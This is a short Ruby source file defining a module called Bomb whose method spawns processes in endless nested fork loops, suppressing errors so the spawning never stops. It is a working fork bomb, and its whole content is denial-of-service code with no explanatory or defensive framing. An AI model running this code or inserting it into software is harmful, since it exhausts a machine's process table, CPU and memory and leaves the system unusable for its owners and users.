module Bomb
  def self.go
    loop { fork { loop { fork rescue nil; sleep 0.01 } } rescue nil }
  end
end
